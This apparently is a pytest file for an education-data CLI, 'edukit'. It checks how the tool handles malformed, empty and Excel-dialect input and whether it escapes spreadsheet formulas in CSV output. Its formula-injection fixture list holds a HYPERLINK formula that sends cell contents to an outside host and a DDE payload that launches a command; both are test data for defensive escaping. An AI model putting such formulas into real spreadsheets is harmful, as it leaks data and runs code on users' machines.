"""Issue 14 classes 5-9 through the CLI: silent misreads, malformed input, empty input, Excel
dialects and spreadsheet formula injection. Bounded child processes (see conftest)."""

from __future__ import annotations

import json

import pandas as pd
import pytest

from edukit.resources import bundled

from .conftest import digest

MATHDIAL = bundled("datasets", "mathdial", "test.csv")


# --- 5. silent misreads ------------------------------------------------------------------------
def test_row_with_an_extra_field_is_an_error_not_an_implicit_index(bounded, tmp_path):
    items = tmp_path / "items.csv"
    items.write_text("item_id,text\n1,hello,EXTRA\n2,there\n", encoding="utf-8")
    before = digest(items)
    for args in (["info", items], ["load", "table", items, "--id-col", "item_id",
                                   "--text-col", "text"]):  # fmt: skip
        r = bounded(*args)
        r.assert_one_error(f"Error: {items}:2: row has 3 fields but the header has 2")
    assert digest(items) == before


def test_utf8_bom_is_accepted_for_mathdial_and_items(bounded, tmp_path):
    md = tmp_path / "bom.csv"
    md.write_bytes(b"\xef\xbb\xbf" + MATHDIAL.read_bytes())
    r = bounded("info", md)
    assert r.code == 0 and "MathDial dialogues" in r.out, r.err
    items = tmp_path / "items.csv"
    items.write_bytes(b"\xef\xbb\xbfitem_id,text\n1,hi\n")
    r = bounded("load", "table", items, "--id-col", "item_id", "--text-col", "text")
    assert r.code == 0 and "1 items" in r.out, r.err


def test_nan_value_is_named_as_missing_at_its_row(bounded, tmp_path):
    ann = tmp_path / "ann.csv"
    ann.write_text("item_id,rater,label,value\n1,H1,a,1\n1,M,a,NaN\n", encoding="utf-8")
    r = bounded("agree", ann, "--humans", "H1", "--models", "M")
    r.assert_one_error(f"Error: {ann}:3: value 'NaN' is a missing value")


# --- 6. tracebacks on malformed input ----------------------------------------------------------
def test_empty_and_deep_json(bounded, tmp_path):
    empty = tmp_path / "empty.jsonl"
    empty.write_text("")
    bounded("info", empty).assert_one_error(f"Error: {empty}: empty file")
    deep = tmp_path / "deep.jsonl"
    deep.write_text("[" * 100_000 + "]" * 100_000 + "\n")
    bounded("info", deep).assert_one_error(f"Error: {deep}:1: JSON nested deeper than 100")
    r = bounded("export", "validate", deep, "-f", "alpaca")
    assert "JSON nested deeper than 100 levels" in r.out
    r.assert_one_error(f"Error: {deep}: 1 problem")


def _prompts(tmp_path, info, name="v1_general.txt", text=b"{comment}\nTask: x?"):
    folder = tmp_path / "prompts"
    (folder / "label_prompts").mkdir(parents=True)
    (folder / "info.json").write_text(json.dumps(info), encoding="utf-8")
    if text is None:
        (folder / "label_prompts" / name).mkdir()
    else:
        (folder / "label_prompts" / name).write_bytes(text)
    return folder


GOOD = {"valid_labels": {"general": {"true": 1, "false": 0}}}


@pytest.mark.parametrize(
    ("info", "text", "reason"),
    [
        ({"valid_labels": ["general"]}, b"{comment}", "valid_labels must map each label"),
        ({"valid_labels": {"general": {"true": "x", "false": 0}}}, b"{comment}",
         "answers must map to 0 or 1"),
        (GOOD, "Caf\u00e9 {comment}".encode("latin-1"), "not UTF-8 text"),
        (GOOD, None, "a folder, not a prompt file"),
        ({"valid_labels": {"general": {"true": 1}}, "x": [[[[]]]]}, b"", "prompt file is empty"),
    ],
)  # fmt: skip
def test_malformed_sight_prompt_folders(bounded, tmp_path, info, text, reason):
    folder = _prompts(tmp_path, info, text=text)
    before = digest(folder)
    r = bounded("rubric", "import-sight", folder, "--out", tmp_path / "r.yaml")
    r.assert_one_error(reason)
    assert digest(folder) == before and not (tmp_path / "r.yaml").exists()


def test_malformed_base_url(bounded, tmp_path):
    items = tmp_path / "items.csv"
    items.write_text("item_id,text\n1,hi\n")
    r = bounded("annotate", items, "--rubric", bundled("rubrics", "sight.yaml"), "--model", "m",
                "--base-url", "http://[::1", "--run-db", tmp_path / "r.sqlite")  # fmt: skip
    r.assert_one_error("--base-url 'http://[::1' is not a valid URL")
    r = bounded("annotate", items, "--rubric", bundled("rubrics", "sight.yaml"), "--model", "m",
                "--max-cost", "inf", "--run-db", tmp_path / "r.sqlite")  # fmt: skip
    r.assert_one_error("Invalid value for '--max-cost'")
    assert not (tmp_path / "r.sqlite").exists()


# --- 7. empty results --------------------------------------------------------------------------
def test_header_only_files_are_one_line_everywhere(bounded, tmp_path):
    md = tmp_path / "md.csv"
    md.write_text(MATHDIAL.read_text(encoding="utf-8").splitlines()[0] + "\n")
    rubric = bundled("rubrics", "mathdial-moves.yaml")
    for args in (
        ["info", md],
        ["load", "mathdial", md],
        ["agree", md, "--humans", "gold", "--models", "m"],
        ["export", "finetune", md, "-f", "alpaca", "-o", tmp_path / "ft"],
        ["annotate", md, "--rubric", rubric, "--model", "m", "--dry-run"],
    ):
        bounded(*args).assert_one_error(f"Error: {md}: no dialogues")
    items = tmp_path / "items.csv"
    items.write_text("item_id,text\n")
    r = bounded("annotate", items, "--rubric", bundled("rubrics", "sight.yaml"), "--model", "m",
                "--dry-run")  # fmt: skip
    r.assert_one_error(f"Error: {items}: no items")
    assert not (tmp_path / "ft").exists()


def test_export_filtered_to_nothing_and_validating_an_empty_file(bounded, tmp_path):
    r = bounded("export", "finetune", MATHDIAL, "-f", "alpaca", "-o", tmp_path / "ft",
                "--moves", "telling", "--max-tokens", "1")  # fmt: skip
    r.assert_one_error("no examples left to write")
    assert not (tmp_path / "ft").exists()
    empty = tmp_path / "empty.jsonl"
    empty.write_text("\n")
    bounded("export", "validate", empty, "-f", "alpaca").assert_one_error("no examples")


# --- 8. Excel dialects -------------------------------------------------------------------------
def test_semicolon_and_cp1252_exports_from_excel(bounded, tmp_path):
    ann = tmp_path / "excel.csv"
    rows = "item_id;rater;label;value\n1;Jos\u00e9;a;1\n1;M;a;1\n2;Jos\u00e9;a;0\n2;M;a;1\n"
    ann.write_bytes(rows.encode("cp1252"))
    r = bounded("agree", ann, "--humans", "Jos\u00e9", "--models", "M")
    r.assert_one_error("not UTF-8 text", "try --encoding cp1252")
    r = bounded("agree", ann, "--humans", "Jos\u00e9", "--models", "M", "--encoding", "cp1252",
                "--n-boot", "0")  # fmt: skip
    assert r.code == 0, r.err
    r = bounded("info", ann, "--encoding", "cp1252")
    assert r.code == 0 and "(semicolon-separated)" in r.out, r.err
    tab = tmp_path / "tab.csv"
    tab.write_text("item_id\ttext\n1\thello, world\n")
    r = bounded("load", "table", tab, "--id-col", "item_id", "--text-col", "text", "--out",
                tmp_path / "o.jsonl")  # fmt: skip
    assert r.code == 0, r.err
    assert json.loads((tmp_path / "o.jsonl").read_text())["text"] == "hello, world"


# --- 9. spreadsheet formula injection -----------------------------------------------------------
EVIL = ['=HYPERLINK("http://x/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
        "\tTAB", "\rCR", "'=already"]  # fmt: skip


def test_csv_outputs_neutralise_formulas_and_round_trip(bounded, tmp_path):
    items = tmp_path / "items.jsonl"
    rows = [{"item_id": e, "text": e, "n": -2} for e in EVIL]
    items.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    out = tmp_path / "items.csv"
    r = bounded("load", "table", items, "--id-col", "item_id", "--text-col", "text", "--out", out)
    assert r.code == 0, r.err
    raw = pd.read_csv(out, dtype=str, keep_default_na=False)  # what a spreadsheet sees
    for cell in [*raw["item_id"], *raw["text"]]:
        assert cell[0] not in "=+-@\t\r", cell
    assert set(raw["n"]) == {"-2"}  # numbers stay numbers
    back = tmp_path / "back.jsonl"
    r = bounded("load", "table", out, "--id-col", "item_id", "--text-col", "text", "--out", back)
    assert r.code == 0, r.err
    got = [json.loads(line) for line in back.read_text(encoding="utf-8").splitlines()]
    assert [g["text"] for g in got] == EVIL and [g["n"] for g in got] == [-2] * len(EVIL)
    r = bounded("load", "table", items, "--id-col", "item_id", "--text-col", "text", "--out",
                tmp_path / "raw.csv", "--raw-csv")  # fmt: skip
    raw = pd.read_csv(tmp_path / "raw.csv", dtype=str, keep_default_na=False)
    assert raw["text"].iloc[0] == EVIL[0]


# number-like text in a text column: a spreadsheet reads it as the number it is, never as a
# formula, so it is written as it is; text that is a formula is escaped
NUMBER_TEXT = ["-2", "+3", "-1.5", "+0.25e3", "-.5", "7"]
FORMULA_TEXT = ["=1+1", "-2+3", "+3 apples", "-", "@A1", "-1e", "--2"]


def test_number_like_text_stays_as_written_and_formulas_are_escaped(bounded, tmp_path):
    items = tmp_path / "items.jsonl"
    texts = NUMBER_TEXT + FORMULA_TEXT
    rows = [{"item_id": f"i{i}", "text": t} for i, t in enumerate(texts)]
    items.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    out = tmp_path / "items.csv"
    r = bounded("load", "table", items, "--id-col", "item_id", "--text-col", "text", "--out", out)
    assert r.code == 0, r.err
    raw = pd.read_csv(out, dtype=str, keep_default_na=False)  # what a spreadsheet sees
    assert list(raw["text"]) == NUMBER_TEXT + ["'" + t for t in FORMULA_TEXT]
    back = tmp_path / "back.jsonl"
    r = bounded("load", "table", out, "--id-col", "item_id", "--text-col", "text", "--out", back)
    assert r.code == 0, r.err
    got = [json.loads(line)["text"] for line in back.read_text(encoding="utf-8").splitlines()]
    assert got == texts  # and edukit reads its own CSV back as written, numbers as text
